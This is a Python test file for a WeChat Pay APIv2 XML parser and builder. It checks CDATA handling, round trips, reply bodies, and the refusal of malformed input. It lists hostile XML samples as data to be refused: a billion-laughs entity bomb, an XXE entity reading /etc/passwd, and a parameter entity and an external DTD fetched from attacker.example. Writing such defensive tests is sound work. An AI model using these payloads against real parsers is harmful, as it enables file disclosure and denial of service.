"""Safe APIv2 XML: exact output, round trips, and hostile input refused before parsing."""

from __future__ import annotations

import contextlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from wxpaykit.core.v2.xml import (
    MAX_XML_BYTES,
    _FlatDocumentReader,
    build_xml,
    parse_xml,
    reply_xml,
)
from wxpaykit.errors import MalformedMessageError, UnsafeXmlError

#: A payment notification as the documentation shows it: CDATA and bare values, newlines.
NOTIFICATION = b"""<xml>
  <appid><![CDATA[wx2421b1c4370ec43b]]></appid>
  <attach><![CDATA[\xe6\x94\xaf\xe4\xbb\x98\xe6\xb5\x8b\xe8\xaf\x95]]></attach>
  <cash_fee><![CDATA[1]]></cash_fee>
  <total_fee>1</total_fee>
  <sign><![CDATA[B552ED6B279343CB493C5DD0D78AB241]]></sign>
</xml>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<xml><return_code>&lol4;</return_code></xml>"""

UNSAFE_DOCUMENTS = {
    "billion laughs": BILLION_LAUGHS,
    "external entity (XXE)": (
        b'<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><a>&xxe;</a></xml>'
    ),
    "parameter entity": (
        b'<!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd">%remote;]><xml/>'
    ),
    "external DTD": b'<!DOCTYPE xml SYSTEM "http://attacker.example/x.dtd"><xml/>',
    "DOCTYPE after BOM and declaration": (
        b'\xef\xbb\xbf<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE xml><xml/>'
    ),
    "DOCTYPE after a comment": b"<!-- hi --><!DOCTYPE xml><xml/>",
    "bare entity declaration": b'<!ENTITY a "b"><xml/>',
    "stylesheet instruction": b'<?xml-stylesheet href="x.xsl"?><xml/>',
    "instruction inside root": b"<xml><?php echo 1; ?><a>1</a></xml>",
    "declaration not at start": b' <?xml version="1.0"?><xml/>',
}

MALFORMED_DOCUMENTS = {
    "nested element": b"<xml><a><b>1</b></a></xml>",
    "text in root": b"<xml>loose<a>1</a></xml>",
    "wrong root": b"<root><a>1</a></root>",
    "repeated child": b"<xml><total_fee>1</total_fee><total_fee>100</total_fee></xml>",
    "unclosed element": b"<xml><a>1</xml>",
    "two roots": b"<xml/><xml/>",
    "empty input": b"",
    "not XML": b"return_code=SUCCESS",
    "not UTF-8": b"<xml><a>\xd6\xa7\xb8\xb6</a></xml>",
    "declared GBK": b'<?xml version="1.0" encoding="GBK"?><xml><a>1</a></xml>',
    "undefined entity": b"<xml><a>&nbsp;</a></xml>",
    "unterminated CDATA": b"<xml><a><![CDATA[1</a></xml>",
    "unterminated comment": b"<xml><!-- </xml>",
    "unterminated declaration": b'<?xml version="1.0"',
}

xml_chars = st.one_of(
    st.sampled_from(list("]]><&'\"\r\n\t;支付")),
    st.characters(min_codepoint=0x20, max_codepoint=0xD7FF),
    st.characters(min_codepoint=0xE000, max_codepoint=0xFFFD),
    st.characters(min_codepoint=0x10000, max_codepoint=0x10FFFF),
)
element_names = st.from_regex(r"[A-Za-z_][A-Za-z0-9_]{0,15}", fullmatch=True)
flat_values = st.one_of(st.text(alphabet=xml_chars, max_size=40), st.integers(-(10**12), 10**12))


def test_reads_cdata_and_bare_values() -> None:
    assert parse_xml(NOTIFICATION) == {
        "appid": "wx2421b1c4370ec43b",
        "attach": "支付测试",
        "cash_fee": "1",
        "total_fee": "1",
        "sign": "B552ED6B279343CB493C5DD0D78AB241",
    }


def test_reads_escapes_references_empty_elements_and_ignores_attributes() -> None:
    data = b'<xml id="1"><a>1 &amp; 2 &lt;3&#13;</a><b/><c></c><!-- note --></xml>'
    assert parse_xml(data) == {"a": "1 & 2 <3\r", "b": "", "c": ""}


def test_accepts_utf8_declaration_and_bom() -> None:
    data = b"\xef\xbb\xbf<?xml version='1.0' encoding='utf-8'?>\n<xml><a>1</a></xml>"
    assert parse_xml(data) == {"a": "1"}


def test_reads_root_named_by_the_caller() -> None:
    assert parse_xml(b"<root><a>1</a></root>", root_tag="root") == {"a": "1"}


def test_accepts_values_that_merely_mention_declarations() -> None:
    data = b"<xml><a><![CDATA[<!DOCTYPE x><?php ?><!ENTITY]]></a></xml>"
    assert parse_xml(data) == {"a": "<!DOCTYPE x><?php ?><!ENTITY"}


@pytest.mark.parametrize("data", UNSAFE_DOCUMENTS.values(), ids=UNSAFE_DOCUMENTS.keys())
def test_refuses_unsafe_documents(data: bytes) -> None:
    with pytest.raises(UnsafeXmlError):
        parse_xml(data)


@pytest.mark.parametrize(
    "data",
    [BILLION_LAUGHS, b'<!DOCTYPE xml [<!ENTITY a "b">]><xml/>', b"<xml><?pi x?></xml>"],
)
def test_parser_refuses_declarations_even_without_the_scan(data: bytes) -> None:
    # The second layer on its own: expat handlers refuse what the scan should have caught.
    with pytest.raises(UnsafeXmlError):
        _FlatDocumentReader("xml").read(data)


def test_refuses_oversized_input_before_looking_at_it() -> None:
    with pytest.raises(UnsafeXmlError, match="limit"):
        parse_xml(b"\xff" * (MAX_XML_BYTES + 1))


def test_size_limit_is_inclusive_and_configurable() -> None:
    document = b"<xml><a>" + b"x" * 100 + b"</a></xml>"
    assert parse_xml(document, max_bytes=len(document)) == {"a": "x" * 100}
    with pytest.raises(UnsafeXmlError):
        parse_xml(document, max_bytes=len(document) - 1)


@pytest.mark.parametrize("data", MALFORMED_DOCUMENTS.values(), ids=MALFORMED_DOCUMENTS.keys())
def test_refuses_malformed_documents(data: bytes) -> None:
    with pytest.raises(MalformedMessageError):
        parse_xml(data)


@given(st.binary(max_size=300))
def test_arbitrary_bytes_parse_or_are_refused_as_malformed(data: bytes) -> None:
    with contextlib.suppress(MalformedMessageError):
        parse_xml(data)


xml_fragments = st.sampled_from(
    [
        "<xml>",
        "</xml>",
        "<a>",
        "</a>",
        "<b/>",
        "<![CDATA[",
        "]]>",
        "<!--",
        "-->",
        "1",
        "<!DOCTYPE xml>",
        '<!ENTITY e "x">',
        "<?pi x?>",
        "<?xml version='1.0'?>",
        "&e;",
        "&amp;",
        "<",
        ">",
        "\n",
    ]
)


@given(st.lists(xml_fragments, max_size=12).map("".join))
def test_xml_like_fragments_parse_or_are_refused_as_malformed(text: str) -> None:
    with contextlib.suppress(MalformedMessageError):
        parse_xml(text.encode())


@given(st.dictionaries(element_names, flat_values, max_size=12))
def test_build_then_parse_round_trips(params: dict[str, str | int]) -> None:
    assert parse_xml(build_xml(params)) == {key: str(value) for key, value in params.items()}


def test_builds_cdata_strings_and_bare_numbers() -> None:
    assert build_xml({"body": "测试", "total_fee": 100}) == (
        "<xml><body><![CDATA[测试]]></body><total_fee>100</total_fee></xml>".encode()
    )


def test_splits_cdata_around_its_terminator() -> None:
    assert build_xml({"a": "x]]>y"}) == b"<xml><a><![CDATA[x]]]]><![CDATA[>y]]></a></xml>"


def test_success_reply_is_exactly_the_documented_body() -> None:
    assert reply_xml(True) == (
        b"<xml><return_code><![CDATA[SUCCESS]]></return_code>"
        b"<return_msg><![CDATA[OK]]></return_msg></xml>"
    )


def test_failure_reply_carries_the_reason() -> None:
    assert (
        reply_xml(False, "签名失败")
        == (
            "<xml><return_code><![CDATA[FAIL]]></return_code>"
            "<return_msg><![CDATA[签名失败]]></return_msg></xml>"
        ).encode()
    )


@pytest.mark.parametrize("key", ["", "1a", "a b", "a<b", "签名", "a:b"])
def test_build_refuses_keys_that_are_not_element_names(key: str) -> None:
    with pytest.raises(ValueError, match="element name"):
        build_xml({key: "1"})


@pytest.mark.parametrize("value", ["\x00", "a\x1bb", "\ud800", "\ufffe"])
def test_build_refuses_characters_xml_cannot_carry(value: str) -> None:
    with pytest.raises(ValueError, match=r"XML 1\.0"):
        build_xml({"a": value})


def test_build_refuses_booleans() -> None:
    with pytest.raises(TypeError):
        build_xml({"a": True})
